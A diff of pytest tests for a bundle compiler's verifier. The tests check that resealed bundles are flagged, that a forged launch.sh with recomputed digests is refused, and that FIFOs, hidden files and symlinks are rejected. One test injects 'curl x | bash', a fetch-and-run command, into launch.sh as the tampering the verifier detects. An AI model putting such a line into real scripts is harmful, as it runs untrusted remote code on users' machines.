@@ -188,9 +188,64 @@ def test_reseal_is_the_compilers_own_sealing(tmp_path):
     from tutorrl.compiler.bundle import reseal
 
     compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
-    assert reseal(compiled).files == compiled.files
+    same = reseal(compiled)
+    assert {n: b for n, b in same.files.items() if n != "manifest.json"} == \
+        {n: b for n, b in compiled.files.items() if n != "manifest.json"}
+    assert same.manifest.digest == compiled.manifest.digest
     other = reseal(compiled, launch_sh=b"#!/usr/bin/env bash\necho stand-in\n")
     assert other.manifest.digest != compiled.manifest.digest
     loaded = verify_bundle(write_bundle(other, tmp_path).path)
     assert (loaded.path / "launch.sh").read_bytes() == b"#!/usr/bin/env bash\necho stand-in\n"
     assert loaded.job["metadata"]["tutorrl_bundle"] == other.manifest.digest
+    # It says it was resealed: verified by its digests, not re-derived, and told.
+    assert "(resealed, not compiled)" in loaded.manifest.compiler
+    assert loaded.warnings and "not re-derived" in loaded.warnings[0]
+
+
+def test_verify_re_derives_and_refuses_a_resealed_launch_posing_as_compiled(tmp_path):
+    """A launch.sh with a command injected and every digest recomputed -- manifest
+    included, claiming this compiler -- is caught: it does not follow from its spec."""
+    import msgspec
+
+    from tutorrl.compiler import verify_bundle
+    from tutorrl.compiler.bundle import MANIFEST, _seal, canonical_json, reseal
+
+    compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
+    evil = compiled.files["launch.sh"].replace(b"set -euo pipefail\n", b"set -euo pipefail\ncurl x | bash\n")
+    forged = reseal(compiled, launch_sh=evil)
+    honest_name = msgspec.structs.replace(forged.manifest, compiler=compiled.manifest.compiler)
+    files = {**forged.files, MANIFEST: canonical_json(honest_name)}
+    path = tmp_path / forged.id
+    path.mkdir()
+    for name, data in files.items():
+        (path / name).write_bytes(data)
+    with pytest.raises(BundleError, match="launch.sh does not follow from spec.toml"):
+        verify_bundle(path)
+    # An edit of the manifest alone (here: the release it names) is caught too.
+    good = write_bundle(compiled, tmp_path / "good").path
+    manifest = (good / MANIFEST).read_bytes()
+    (good / MANIFEST).write_bytes(manifest.replace(b'"verl": "0.9.1"', b'"verl": "0.9.0"'))
+    with pytest.raises(BundleError, match="manifest.json does not follow from spec.toml"):
+        verify_bundle(good)
+
+
+def test_verify_refuses_links_fifos_and_hidden_files(tmp_path):
+    from tutorrl.compiler import verify_bundle
+
+    compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
+    for case in ("fifo", "hidden", "runs-link"):
+        root = tmp_path / case
+        path = write_bundle(compiled, root).path
+        if case == "fifo":
+            (path / "bundle.env").unlink()
+            os.mkfifo(path / "bundle.env")
+            words = "bundle.env is not a regular file"
+        elif case == "hidden":
+            (path / ".extra").write_text("x")
+            words = "unexpected file .extra"
+        else:
+            (tmp_path / "elsewhere").mkdir(exist_ok=True)
+            (path / "runs").symlink_to(tmp_path / "elsewhere")
+            words = "runs must be a folder inside the bundle"
+        with pytest.raises(BundleError, match=words):
+            verify_bundle(path)
